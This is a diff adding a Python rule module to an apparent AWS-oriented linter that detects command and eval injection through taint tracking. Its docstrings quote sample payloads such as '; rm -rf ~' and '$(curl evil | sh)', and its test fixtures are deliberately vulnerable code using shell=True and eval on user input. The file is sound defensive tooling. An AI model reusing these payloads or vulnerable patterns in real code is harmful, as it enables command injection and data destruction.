@@ -1,0 +1,357 @@
+"""Shell and code injection (AWS401-AWS404): what reaches a process or `eval` sink, and from where."""
+from __future__ import annotations
+
+from typing import Iterable
+
+from awslint.analysis.taint import TaintOptions, Verdict, analyse
+from awslint.analysis.taint_sinks import CODE, PROGRAM, SHELL, Sink
+from awslint.analysis.taint_values import Origin
+from awslint.context import Context
+from awslint.finding import Finding, Step
+from awslint.rule import Family, Option, Rule
+
+
+class CommandInjection(Rule):
+    """
+    ## What it finds
+
+    A shell command, or the name of the program to run, built from external input: command-line
+    arguments, environment variables, standard input, an AWS Lambda event, web request data, data read
+    from a file, a socket, an HTTP response or a queue. The sinks are `subprocess` calls with
+    `shell=True`, `os.system`, `os.popen`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`,
+    the command of an argument list that runs a shell or an interpreter (`["sh", "-c", cmd]`), and the
+    program of `subprocess`, `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec` calls.
+
+    The value is followed through assignments, string building (`+`, `%`, `format`, f-strings,
+    `join`, string methods), containers, and the functions of the same module. `shlex.quote`,
+    `shlex.join`, `int()`, `float()`, `uuid.UUID()` and a check against a constant allow-list before the
+    call (`if action not in ALLOWED: raise ...`) make a value safe.
+
+    ## Why is this bad?
+
+    Whoever controls the input controls the command: `; rm -rf ~`, `$(curl evil | sh)` or a backtick
+    in a file name runs with the program's privileges (in a Lambda function, with its IAM role). Pass
+    a list of arguments with `shell=False` so that no shell parses the input, or quote each value with
+    `shlex.quote`.
+
+    ## References
+
+    - [CWE-78: OS command injection](https://cwe.mitre.org/data/definitions/78.html)
+    - [subprocess: security considerations](https://docs.python.org/3/library/subprocess.html#security-considerations)
+    """
+
+    code = "AWS401"
+    name = "command-injection"
+    msgid = "W7341"
+    title = "Shell command or program built from external input"
+    message = "{sink} built from `{source}` ({what}, line {line}){via}; {fix}"
+    INVALID = (
+        '''
+import subprocess
+
+
+def lambda_handler(event, context):
+    bucket = event["bucket"]
+    cmd = f"aws s3 sync s3://{bucket} /tmp/work"
+    subprocess.run(cmd, shell=True, check=True)  # expect: AWS401
+''',
+        '''
+import os
+import sys
+
+
+def main():
+    os.system("ping -c 1 " + sys.argv[1])  # expect: AWS401
+''',
+    )
+    VALID = (
+        '''
+import shlex
+import subprocess
+
+
+def lambda_handler(event, context):
+    bucket = event["bucket"]
+    subprocess.run(["aws", "s3", "sync", f"s3://{bucket}", "/tmp/work"], check=True)
+    subprocess.run(f"aws s3 ls s3://{shlex.quote(bucket)}", shell=True, check=True)
+''',
+        '''
+import subprocess
+import sys
+
+ACTIONS = ("start", "stop", "status")
+
+
+def main():
+    action = sys.argv[1]
+    if action not in ACTIONS:
+        raise SystemExit(f"unknown action {action}")
+    subprocess.run(f"systemctl {action} nginx", shell=True, check=True)
+''',
+    )
+
+
+class CodeInjection(Rule):
+    """
+    ## What it finds
+
+    `eval`, `exec` or the builtin `compile` of a string built from external input (the same sources
+    and propagation as AWS401). `ast.literal_eval`, `re.compile` and methods named `eval` on other
+    objects are not sinks.
+
+    ## Why is this bad?
+
+    `eval` runs whatever Python the input contains: `__import__('os').system(...)` reads secrets,
+    deletes files or opens a shell. To read a literal use `ast.literal_eval` or `json.loads`; to pick
+    an operation from input, look it up in a dictionary of allowed functions.
+
+    ## References
+
+    - [CWE-95: eval injection](https://cwe.mitre.org/data/definitions/95.html)
+    - [ast.literal_eval](https://docs.python.org/3/library/ast.html#ast.literal_eval)
+    """
+
+    code = "AWS402"
+    name = "code-injection"
+    msgid = "W7342"
+    title = "eval/exec/compile of external input"
+    message = "{sink} built from `{source}` ({what}, line {line}){via}; {fix}"
+    INVALID = (
+        '''
+def calculator():
+    expression = input("calc> ")
+    print(eval(expression))  # expect: AWS402
+''',
+        '''
+from flask import Flask, request
+
+app = Flask(__name__)
+
+
+@app.route("/filter")
+def filter_items():
+    rule = request.args.get("rule", "True")
+    return [item for item in range(10) if eval(rule, {"item": item})]  # expect: AWS402
+''',
+    )
+    VALID = (
+        '''
+import ast
+
+
+def read_point():
+    x, y = ast.literal_eval(input("point as (x, y): "))
+    return float(x), float(y)
+
+
+def self_check():
+    return eval("2 ** 10") == 1024
+''',
+    )
+
+
+class DynamicShellCommand(Rule):
+    """
+    ## What it finds
+
+    A shell command (the same sinks as AWS401) or `eval`/`exec`/`compile` of a value that is not a
+    constant but that the analysis does not trace to external input: a parameter of an ordinary
+    function, the result of an unknown call, a name bound in another module. A value built only from
+    constants, through local variables too, or whose every non-constant part is sanitised (with
+    `shlex.quote`, `int()` ...) is not reported.
+
+    When a parameter reaches the sink and some caller in the module passes external input, the finding
+    is AWS401 or AWS402 instead, with the path through the call.
+
+    ## Why is this bad?
+
+    A helper such as `def run(cmd): subprocess.call(cmd, shell=True)` is safe only as long as every
+    caller passes a trusted string; the next caller that formats a file name or a request parameter into
+    it opens a command injection far from the line that runs it. Prefer a list of arguments with
+    `shell=False`, and quote what has to go through a shell.
+
+    ## References
+
+    - [CWE-78: OS command injection](https://cwe.mitre.org/data/definitions/78.html)
+    """
+
+    code = "AWS403"
+    name = "dynamic-shell-command"
+    msgid = "W7343"
+    title = "Shell command or eval of a non-constant value"
+    message = "{sink} built from `{source}` ({what}, line {line}){via} is not a constant; {fix}"
+    INVALID = (
+        '''
+import subprocess
+
+
+def run(cmd):
+    print(f"+ {cmd}")
+    return subprocess.call(cmd, shell=True)  # expect: AWS403
+''',
+    )
+    VALID = (
+        '''
+import shlex
+import subprocess
+
+
+def run(args):
+    return subprocess.call(args)
+
+
+def archive(path):
+    return subprocess.call(f"tar czf backup.tgz {shlex.quote(path)}", shell=True)
+
+
+def kernel():
+    command = "uname -a"
+    return subprocess.check_output(command, shell=True, text=True)
+''',
+    )
+
+
+class OutdatedProcessApi(Rule):
+    """
+    ## What it finds
+
+    Calls of `os.system`, `os.popen`, `os.spawn*`, `subprocess.getoutput` and
+    `subprocess.getstatusoutput` that no AWS401 or AWS403 finding already covers (the command is a
+    constant, or the program is fixed).
+
+    ## Why is this bad?
+
+    These APIs run the command through a shell (or, for `os.spawn*`, offer an awkward interface), and
+    they hide failures: `os.system` returns an encoded status that is easy to ignore, `getoutput`
+    drops the exit status altogether. `subprocess.run([...], check=True)` takes a list of arguments,
+    needs no shell, and raises when the command fails.
+
+    ## References
+
+    - [Replacing older functions with the subprocess module](https://docs.python.org/3/library/subprocess.html#subprocess-replacements)
+    """
+
+    code = "AWS404"
+    name = "outdated-process-api"
+    msgid = "C7344"
+    title = "Outdated process API"
+    default_enabled = False
+    message = "`{api}()` {why}; use `subprocess.run` with a list of arguments{check}"
+    INVALID = (
+        '''
+import os
+import subprocess
+
+
+def clear_screen():
+    os.system("clear")  # expect: AWS404
+
+
+def kernel():
+    return subprocess.getoutput("uname -a")  # expect: AWS404
+''',
+    )
+    VALID = (
+        '''
+import subprocess
+
+
+def clear_screen():
+    subprocess.run(["clear"], check=True)
+''',
+    )
+
+
+_OPTIONS = (
+    Option(
+        "taint-sources",
+        "extra sources of external input: functions (`myapp.io.read_request`) or module attributes "
+        "(`settings.USER_COMMAND`) by their dotted name, or methods by name with a leading dot (`.get_payload`)",
+    ),
+    Option(
+        "taint-sanitizers",
+        "extra functions whose result is safe to put in a command (`myapp.shell.safe_arg`), or methods "
+        "with a leading dot (`.validated`)",
+    ),
+    Option(
+        "taint-sinks",
+        "extra functions whose first argument is run: `myapp.ssh.run_remote` (a shell command), "
+        "`myapp.tasks.run_program:program`, `myapp.rules.evaluate:code`",
+    ),
+)
+
+_WHAT_IS_RUN = {SHELL: "shell command", PROGRAM: "program to run", CODE: "code"}
+_FIX = {
+    SHELL: "pass a list of arguments with `shell=False`, or quote it with `shlex.quote`",
+    PROGRAM: "run a fixed program, or check the name against an allow-list first",
+    CODE: "parse data with `ast.literal_eval` or `json.loads`, or look the operation up in a dict of "
+          "allowed functions",
+}
+_REVIEW_FIX = {
+    SHELL: "make sure no external input reaches it, or pass a list of arguments with `shell=False`",
+    CODE: "make sure no external input reaches it, or avoid running generated code",
+}
+_OUTDATED_WHY = {
+    "os.system": ("runs the command through a shell and returns an encoded status", ", `check=True`"),
+    "os.popen": ("runs the command through a shell and ignores its exit status", ", `capture_output=True`"),
+    "subprocess.getoutput": ("runs the command through a shell and drops its exit status",
+                             ", `capture_output=True`"),
+    "subprocess.getstatusoutput": ("runs the command through a shell", ", `capture_output=True`"),
+}
+
+
+def _sink_phrase(sink: Sink, role: str) -> str:
+    if role == CODE:
+        return f"code passed to `{sink.api}()`"
+    if role == SHELL and sink.kind != SHELL:
+        return f"shell command run by `{sink.api}()`"
+    return f"{_WHAT_IS_RUN[role]} of `{sink.api}()`" if role == PROGRAM else _WHAT_IS_RUN[role]
+
+
+def _via(origin: Origin) -> str:
+    shorts = [h.short for h in origin.hops]
+    return " via " + ", ".join(shorts) if shorts else ""
+
+
+def _path(verdict: Verdict, origin: Origin) -> tuple[Step, ...]:
+    call = verdict.sink.call
+    return (*origin.steps(), Step(call.lineno, call.col_offset, f"reaches `{verdict.sink.api}()`"))
+
+
+def _finding(verdict: Verdict) -> Finding | None:
+    origin, role = verdict.origin, verdict.role
+    if origin is None or role is None:
+        return None
+    fields = {"sink": _sink_phrase(verdict.sink, role), "source": origin.text, "what": origin.what,
+              "line": origin.line, "via": _via(origin)}
+    if verdict.tainted:
+        rule: type[Rule] = CodeInjection if role == CODE else CommandInjection
+        return rule.at(verdict.sink.call, path=_path(verdict, origin), fix=_FIX[role], **fields)
+    if role not in _REVIEW_FIX:
+        return None
+    return DynamicShellCommand.at(verdict.sink.call, path=_path(verdict, origin), fix=_REVIEW_FIX[role], **fields)
+
+
+def check(ctx: Context) -> Iterable[Finding]:
+    options = TaintOptions(
+        sources=ctx.option("taint-sources"),
+        sanitizers=ctx.option("taint-sanitizers"),
+        sinks=ctx.option("taint-sinks"),
+    )
+    for verdict in analyse(ctx, options):
+        finding = _finding(verdict)
+        covered = finding is not None and ctx.enabled(finding.code)
+        if finding is not None:
+            yield finding
+        if verdict.sink.outdated and not covered:
+            api = verdict.sink.api
+            why, check_hint = _OUTDATED_WHY.get(api, ("is an old interface to start a process", ""))
+            yield OutdatedProcessApi.at(verdict.sink.call, api=api, why=why, check=check_hint)
+
+
+FAMILY = Family(
+    name="injection",
+    rules=(CommandInjection, CodeInjection, DynamicShellCommand, OutdatedProcessApi),
+    check=check,
+    options=_OPTIONS,
+)
